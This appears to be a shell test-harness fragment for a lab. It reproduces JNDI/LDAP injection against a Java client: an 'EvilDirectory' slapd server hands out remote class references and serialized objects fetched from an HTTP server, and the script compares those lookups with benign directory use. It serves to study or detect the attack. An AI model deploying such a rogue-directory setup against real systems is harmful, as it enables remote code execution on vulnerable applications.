# SPDX-License-Identifier: GPL-2.0-or-later
# The callback: a JVM's InitialContext.lookup against OpenLDAP's slapd. The benign twin is the same JVM client and
# ldapsearch doing what applications do all day: search below a base, bind as the user.

ldap_up() {
    rm -rf "$WORK/evil" "$WORK/corp"
    mkdir "$WORK/evil" "$WORK/corp"
    sed "s|@WORK@|$WORK|g" "$here/srv/slapd-evil.conf" >"$WORK/evil.conf"
    sed "s|@WORK@|$WORK|g" "$here/srv/slapd-corp.conf" >"$WORK/corp.conf"
    java -cp "$WORK/classes" EvilDirectory http://10.99.0.1:8000/ >"$WORK/evil.ldif"
    slapadd -f "$WORK/evil.conf" -l "$WORK/evil.ldif"
    slapadd -f "$WORK/corp.conf" -l "$here/srv/corp.ldif"
    serve out 1389 slapd -d 0 -f "$WORK/evil.conf" -h 'ldap://10.99.0.1:1389/'
    serve out 389 slapd -d 0 -f "$WORK/corp.conf" -h 'ldap://10.99.0.1:389/'
    serve out 8000 python3 -m http.server 8000 --bind 10.99.0.1 -d "$WORK/www"
}

directory_use() {
    java_in DirectoryUser ldap://10.99.0.1:389/
    timeout 10 $IN ldapsearch -x -LLL -H ldap://10.99.0.1:389 -b dc=corp,dc=example '(&(objectClass=person)(uid=alice))' cn mail
}

if wanted ldap-reference-class ldap-reference-refused ldap-serialized benign-ldap; then
    ldap_up
    # shellcheck disable=SC2086
    {
        scene ldap-reference-class java_in $TRUST Lookup 'ldap://10.99.0.1:1389/cn=ref,dc=evil'
        scene ldap-reference-refused java_in Lookup 'ldap://10.99.0.1:1389/cn=ref,dc=evil'
        scene ldap-serialized java_in $TRUST Lookup 'ldap://10.99.0.1:1389/cn=ser,dc=evil'
    }
    scene benign-ldap directory_use
    stop_servers
fi
